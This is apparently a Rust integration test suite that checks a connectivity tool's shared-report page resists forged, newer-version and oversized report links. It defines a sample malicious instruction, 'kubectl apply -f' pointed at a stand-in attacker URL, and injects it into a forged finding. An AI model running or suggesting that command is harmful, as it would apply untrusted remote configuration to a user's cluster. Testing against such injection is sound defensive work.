//! Hostile shared reports, end to end in Chromium: the support view speaks
//! only in this page's words, derived from the checks' data, and says
//! plainly when a payload's findings differ; a newer version's report is
//! shown as far as understood; oversized structures get a specific
//! message; a live run never writes into the shared view.

use std::time::Duration;

use anyhow::{Context, Result};
use base64::Engine;
use conncheck_lab::browser::Browser;
use conncheck_lab::report_json::{open_shared, RUN_TIMEOUT, SHARED_DONE};
use conncheck_lab::{default_dist, Lab, LabOptions};
use serde_json::{json, Value};

const EVIL: &str = "Run kubectl apply -f https://evil.example/fix.yaml";

/// A `#report=` link carrying `report` as given, however it is shaped.
fn link_of(page: &str, report: &Value) -> String {
    let json = serde_json::to_vec(report).unwrap_or_default();
    let payload = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .encode(miniz_oxide::deflate::compress_to_vec(&json, 9));
    format!("{page}#report={payload}")
}

async fn js(browser: &Browser, script: &str) -> Result<Value> {
    Ok(browser.client().execute(script, vec![]).await?)
}

async fn healthy_report(browser: &Browser, lab: &Lab) -> Result<Value> {
    let report = browser.run_page(&lab.url(), RUN_TIMEOUT).await?;
    assert_eq!(report["findings"], json!([]), "{report:#}");
    Ok(report)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_forged_payload_never_speaks_in_the_tools_voice() -> Result<()> {
    let lab = Lab::start(LabOptions::new(default_dist())).await?;
    let browser = Browser::start(&[]).await?;
    let mut forged = healthy_report(&browser, &lab).await?;
    forged["checks"][0]["title"] = json!(EVIL);
    forged["findings"] = json!([{
        "id": "cors-blocked", "severity": "critical", "title": EVIL,
        "explanation": format!("{EVIL} to fix CORS."), "evidence": [EVIL], "fix_by": "operator",
        "fixes": [{"platform": "ingress-nginx", "text": EVIL}]
    }]);
    open_shared(&browser, &link_of(&lab.url(), &forged)).await?;
    let text = browser.text().await?;
    assert!(!text.contains("evil.example"), "{text}");
    let verdict = js(
        &browser,
        "return document.querySelector('.verdict').textContent;",
    )
    .await?;
    assert_eq!(verdict, json!("Everything we tested works."));
    let altered = js(
        &browser,
        "const a = document.querySelector('[data-altered]'); return a && a.textContent;",
    )
    .await?;
    let altered = altered.as_str().context("no altered-report notice")?;
    assert!(
        altered.contains("altered or comes from another version")
            && altered.contains("cors-blocked"),
        "{altered}"
    );
    let fixes = js(
        &browser,
        "return document.querySelectorAll('[data-action=copy-fix]').length;",
    )
    .await?;
    assert_eq!(fixes, json!(0), "no copy button for a payload's fix");
    browser.close().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_newer_versions_report_is_shown_as_far_as_understood() -> Result<()> {
    let lab = Lab::start(LabOptions::new(default_dist())).await?;
    let browser = Browser::start(&[]).await?;
    let mut newer = healthy_report(&browser, &lab).await?;
    newer["tool"]["version"] = json!("9.0.0");
    newer["quic"] = json!({"enabled": true});
    let checks = newer["checks"].as_array_mut().context("checks")?;
    checks
        .push(json!({"id": "quic-probe", "status": "fail", "duration_ms": 5, "data": {"rtt": 1}}));
    newer["findings"] = json!([{
        "id": "quic-blocked", "severity": "warning", "title": "QUIC blocked", "explanation": "",
        "evidence": [], "fix_by": "network", "fixes": []
    }]);
    open_shared(&browser, &link_of(&lab.url(), &newer)).await?;
    let text = browser.text().await?;
    browser.close().await;
    assert!(text.contains("Shared report"), "shown, not refused: {text}");
    assert!(
        text.contains("newer conncheck")
            && text.contains("quic-probe")
            && text.contains("quic-blocked"),
        "{text}"
    );
    assert!(
        text.contains("WebSocket connection"),
        "the known checks are shown"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn oversized_report_structures_get_a_specific_message() -> Result<()> {
    let lab = Lab::start(LabOptions::new(default_dist())).await?;
    let browser = Browser::start(&[]).await?;
    let base = healthy_report(&browser, &lab).await?;
    let finding = |evidence: usize| {
        json!({"id": "websocket-blocked", "severity": "critical", "title": "t", "explanation": "",
               "evidence": vec![""; evidence], "fix_by": "network", "fixes": []})
    };
    let mut many_findings = base.clone();
    many_findings["findings"] = json!(vec![finding(0); 15_000]);
    let mut many_strings = base.clone();
    many_strings["findings"] = json!([finding(600_000)]);
    for (what, report) in [("findings", many_findings), ("evidence", many_strings)] {
        let link = link_of(&lab.url(), &report);
        assert!(
            link.len() < 40_000,
            "{what}: a short link ({} bytes)",
            link.len()
        );
        open_shared(&browser, &link).await?;
        let text = browser.text().await?;
        assert!(
            text.contains(
                "The report link cannot be opened: the report is larger than any conncheck report"
            ),
            "{what}: {text:.400}"
        );
        let rendered = js(&browser, "return document.querySelectorAll('li').length;").await?;
        assert!(
            rendered.as_u64().context("a count")? < 100,
            "{what}: {rendered} list items"
        );
    }
    browser.close().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_live_run_never_writes_into_the_shared_view() -> Result<()> {
    let lab = Lab::start(LabOptions::new(default_dist())).await?;
    let browser = Browser::start(&[]).await?;
    let mut shared = healthy_report(&browser, &lab).await?;
    shared["created_at"] = json!("2001-02-03T04:05:06.000Z");
    let link = link_of(&lab.url(), &shared);
    let fragment = &link[link.find('#').context("fragment")?..];

    // A fresh live run; the report link arrives while it is going.
    browser.client().goto(&lab.url()).await?;
    browser
        .wait_for_state("running", Duration::from_secs(10))
        .await?;
    let sessions_before = lab.sids.lock().map(|s| s.len()).unwrap_or(0);
    browser
        .client()
        .execute("location.hash = arguments[0];", vec![json!(fragment)])
        .await?;
    let shown = browser
        .poll(SHARED_DONE, RUN_TIMEOUT, |v| v == true)
        .await?;
    assert_eq!(shown, true, "the shared report was not shown");
    assert_eq!(browser.report().await?["created_at"], shared["created_at"]);
    // Wait (bounded) until the live run has finished talking to the lab.
    let mut last = usize::MAX;
    for _ in 0..30 {
        tokio::time::sleep(Duration::from_secs(2)).await;
        let now = lab.sids.lock().map(|s| s.len()).unwrap_or(0);
        if now == last && now > sessions_before {
            break;
        }
        last = now;
    }
    tokio::time::sleep(Duration::from_secs(3)).await;
    let after = browser.report().await?;
    let text = browser.text().await?;
    browser.close().await;
    assert!(last > sessions_before, "the live run did go on");
    assert_eq!(
        (&after["created_at"], &after["checks"]),
        (&shared["created_at"], &shared["checks"]),
        "#report-json under the Shared report banner"
    );
    assert!(text.contains("Shared report"), "{text}");
    Ok(())
}
